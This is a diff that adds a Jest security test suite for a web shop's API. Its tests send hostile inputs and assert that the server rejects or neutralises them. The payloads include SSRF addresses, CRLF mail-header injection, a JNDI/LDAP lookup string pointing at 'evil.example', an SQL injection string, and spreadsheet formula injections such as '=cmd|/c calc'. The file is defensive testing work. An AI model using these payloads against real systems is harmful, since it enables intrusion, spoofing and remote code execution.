@@ -1,0 +1,266 @@
+import { afterAll, describe, expect } from '@jest/globals';
+import { attack } from '../../lab/attack.js';
+import { closeDatabase, count, rows } from '../../lab/database.js';
+import { eventually } from '../../lab/eventually.js';
+import { listener } from '../../lab/listener.js';
+import { allMails, mailsTo } from '../../lab/mailbox.js';
+import { admin, newEmail, signUp } from '../../lab/people.js';
+import { logOf } from '../../lab/processes.js';
+import { checkOut, newItem, saveItem } from '../../lab/shop.js';
+import { Visitor } from '../../lab/visitor.js';
+
+afterAll(closeDatabase);
+
+describe('texts', () => {
+  attack('make the server call nobody: addresses in fields are texts [T39] [API7]', async (choose) => {
+    const attacker = await listener();
+    const url = choose.one('address', [
+      attacker.origin,
+      `${attacker.origin}/x.png`,
+      attacker.origin.replace('127.0.0.1', 'localhost'),
+      attacker.origin.replace('http:', ''),
+      attacker.origin.replace('127.0.0.1', '2130706433'),
+      attacker.origin.replace('127.0.0.1', '0x7f.1'),
+    ]);
+    const member = await signUp();
+    const course = await newItem('course');
+    await saveItem('course', { image: url, description: `![x](${url}) <img src="${url}">` });
+    await saveItem('workshop', { joinUrl: url });
+    await checkOut(member, 'course', course.id, { redirectUrl: url, callbackUrl: url, webhookUrl: url });
+    await member.post('/api/phonepe/initiate', { redirectUrl: url, callbackUrl: url, amount: 1 });
+    await Visitor.client().post('/api/contact', {
+      name: 'Asha Rao',
+      email: newEmail(),
+      message: `Please look at ${url} for me`,
+    });
+    await Visitor.client().get(
+      `/api/auth/google?issuer=${encodeURIComponent(url)}&redirect_uri=${encodeURIComponent(url)}`,
+    );
+    await Visitor.client().post('/api/auth/google/callback', {
+      code: 'x',
+      state: 'x',
+      iss: url.slice(0, 200),
+    });
+    await Visitor.client().post('/api/payments/phonepe/webhook', { url, payload: { redirect: url } });
+    await attacker.stop();
+    expect(attacker.calls).toEqual([]);
+  });
+
+  attack('smuggle no recipient and no header into a mail [T40]', async (choose) => {
+    const victim = newEmail();
+    const sender = newEmail();
+    const line = choose.one('line', ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085', '\\r\\n']);
+    const header = choose.one('header', [
+      `bcc: ${victim}`,
+      `to: ${victim}`,
+      'list-unsubscribe: <https://evil.example>',
+      `x-injected: ${sender}`,
+    ]);
+    await Visitor.client().post('/api/contact', {
+      name: `Asha Rao${line}${header}`,
+      email: sender,
+      message: `Please help me.${line}${header}`,
+    });
+    const addresses = [
+      `${sender}${line}${header}`,
+      `"${victim} x"@example.in`,
+      `${sender},${victim}`,
+      `${victim}>,<${sender}`,
+      `"${victim}"@example.in`,
+      `=?utf-8?q?${victim}?=@example.in`,
+    ];
+    for (const email of choose.shuffled(addresses)) {
+      await Visitor.client().post('/api/user/register', {
+        name: 'Asha Rao',
+        email,
+        password: 'Seven quiet herons 7',
+      });
+      await Visitor.client().post('/api/contact', {
+        name: 'Asha Rao',
+        email,
+        message: 'Please help me, thank you',
+      });
+    }
+    const last = newEmail();
+    await Visitor.client().post('/api/contact', {
+      name: 'Asha Rao',
+      email: last,
+      message: 'The last one of them all',
+    });
+    await eventually('a mail', async () => (await mailsTo(last)).length > 0);
+    expect(await mailsTo(victim)).toEqual([]);
+    for (const mail of await allMails()) expect(mail.to).toHaveLength(1);
+  });
+
+  attack('forge no line of a log [T41]', async (choose) => {
+    const mark = choose.text('mark', 16);
+    const line = choose.one('line', ['\n', '\r\n', '\u2028', '\u0085', '%0a', '\u001b[2K\u001b[1A']);
+    const forged = `${mark}${line}{"level":"info","msg":"forged ${mark}"}\${jndi:ldap://evil.example/${mark}}`;
+    await Visitor.client().get(`/api/course/${encodeURIComponent(forged)}`, {
+      'x-request-id': mark.repeat(20),
+      'user-agent': `agent ${mark}`,
+    });
+    await Visitor.client().post('/api/user/login', { email: `${forged}@example.in`, password: forged });
+    await Visitor.client().post('/api/registry/reports', { reports: [{ message: forged }] });
+    await Visitor.client().get('/health/live');
+    for (const name of ['bff', 'auth', 'catalog', 'payment'])
+      for (const text of logOf(name)
+        .split('\n')
+        .filter((one) => one.includes(mark))) {
+        expect(() => JSON.parse(text)).not.toThrow();
+        expect(JSON.parse(text)).not.toMatchObject({ msg: `forged ${mark}` });
+        expect(text).not.toContain('\u001b');
+      }
+  });
+
+  attack('of any script come back as they were sent [T42] [H12]', async (choose) => {
+    const member = await signUp();
+    const name = choose.one('name', [
+      'అనసూయ శ్రీరామ్',
+      'प्रज्ञा शर्मा',
+      'Jose\u0301 Ñandú',
+      'Zoë Ǻ',
+      'ക്ഷേത്ര നായർ',
+      '愛 山田',
+      'Ali \u0639\u0644\u064a',
+      'శ్రీ\u200cరామ్ రావు',
+      'क्\u200dष शर्मा',
+    ]);
+    expect([name, (await member.put('/api/user/update', { name })).status]).toEqual([name, 200]);
+    const told = (await member.get('/api/user/me')).json<{ user: { name: string } }>().user.name;
+    expect(told.normalize('NFC')).toBe(name.normalize('NFC'));
+    const [row] = await rows<{ name: string }>('auth', 'SELECT name FROM users WHERE id = ?', [
+      member.user.id,
+    ]);
+    expect(row?.name).toBe(told);
+  });
+
+  attack('that only look alike are one account, and never somebody else’s [T42]', async (choose) => {
+    const local = `jose${choose.text('name', 8)}`;
+    const email = `${local}@example.in`;
+    await signUp(Visitor.client(), email);
+    const spelling = choose.one('spelling', [
+      email.toUpperCase(),
+      email.replace('jose', 'JOSE'),
+      ` ${email}`,
+      `${local}@EXAMPLE.IN`,
+    ]);
+    await Visitor.client().post('/api/user/register', {
+      name: 'Somebody Else',
+      email: spelling,
+      password: 'Seven quiet herons 7',
+    });
+    expect(await count('auth', 'users', 'LOWER(TRIM(email)) = ?', [email])).toBe(1);
+    const alike = choose.one('alike', [
+      email.replace('jose', 'josé'),
+      email.replace('jose', 'jоse'),
+      email.replace('i', 'ı'),
+      `${email}\u200b`,
+    ]);
+    expect(
+      (await Visitor.client().post('/api/user/login', { email: alike, password: 'Seven quiet herons 7' }))
+        .status,
+    ).toBeGreaterThanOrEqual(400);
+  });
+
+  attack('with signs that nobody sees or that turn round are no name [H12] [T42]', async (choose) => {
+    const member = await signUp();
+    const sign = choose.one('sign', [
+      '\u2028',
+      '\u2029',
+      '\u200b',
+      '\u2060',
+      '\ufeff',
+      '\u{e0041}',
+      '\u{e007f}',
+      '\u202e',
+      '\u0000',
+      '\u0007',
+    ]);
+    const at = choose.one('at', [
+      (name: string) => `${sign}${name}`,
+      (name: string) => `${name}${sign}`,
+      (name: string) => name.replace('a', `a${sign}`),
+    ]);
+    const name = at('Asha Rao');
+    const answer = await member.put('/api/user/update', { name });
+    const [row] = await rows<{ name: string }>('auth', 'SELECT name FROM users WHERE id = ?', [
+      member.user.id,
+    ]);
+    expect([answer.status === 400 || !row?.name.includes(sign), row?.name.includes(sign)]).toEqual([
+      true,
+      false,
+    ]);
+    const message = await Visitor.client().post('/api/contact', {
+      name,
+      email: newEmail(),
+      message: 'Please help me, thank you',
+    });
+    expect(
+      message.status === 400 ||
+        (await count('catalog', 'contact_messages', 'INSTR(name, ?) > 0', [sign])) === 0,
+    ).toBe(true);
+  });
+
+  attack('are one phone number in every spelling, or an error at the field [T43]', async (choose) => {
+    const member = await signUp();
+    const digits = `9${choose.text('digits', 9, '0123456789')}`;
+    const good = choose.one('good', [
+      digits,
+      `+91${digits}`,
+      `0${digits}`,
+      `+91 ${digits.slice(0, 5)} ${digits.slice(5)}`,
+      `91-${digits}`,
+      `(+91) ${digits}`,
+    ]);
+    const bad = choose.one('bad', [
+      `${digits}123`,
+      '12345',
+      '+1 212 555 0100',
+      '5555555555',
+      'abcdefghij',
+      "9' OR '1'='1",
+      '०१२३४५६७८९',
+    ]);
+    const first = await member.put('/api/user/update', { name: 'Asha Rao', phone: good });
+    expect([good, first.status]).toEqual([good, 200]);
+    expect(first.json()).toMatchObject({ user: { phone: digits } });
+    expect([bad, (await member.put('/api/user/update', { name: 'Asha Rao', phone: bad })).status]).toEqual([
+      bad,
+      400,
+    ]);
+    expect((await member.get('/api/user/me')).json()).toMatchObject({ user: { phone: digits } });
+  });
+
+  attack('in an exported table are no formula, whatever separates its cells [T45] [H11]', async (choose) => {
+    const separator = choose.one('separator', [',', ';', '\t', '|']);
+    const formula = choose.one('formula', [
+      '=HYPERLINK("https://evil.example")',
+      '+1+1',
+      '-2+3',
+      '@SUM(1)',
+      '\t=1',
+      '=cmd|/c calc',
+    ]);
+    const mark = choose.text('mark', 10);
+    const chief = await admin();
+    const victim = await signUp();
+    const course = await newItem('course');
+    const reason = choose.one('where', [`${mark}${separator}${formula}`, `${formula} ${mark} reason`]);
+    const given = await chief.post('/api/admin/enrollments', {
+      userId: victim.user.id,
+      itemType: 'course',
+      itemId: course.id,
+      reason,
+    });
+    expect(given.status).toBe(200);
+    const { text } = await chief.get('/api/admin/audit/export');
+    const line = text.split('\n').find((one) => one.includes(mark)) ?? '';
+    expect(line).not.toBe('');
+    for (const other of [',', ';', '\t', '|'])
+      for (const cell of line.split(other))
+        expect([cell, /^[=+@\t-]/.test(cell.trim()) && !/^"/.test(cell.trim())]).toEqual([cell, false]);
+    for (const [, cell = ''] of line.matchAll(/(?:^|,)"((?:[^"]|"")*)"/g))
+      expect([cell, /^[=+@\t-]/.test(cell)]).toEqual([cell, false]);
+  });
+});
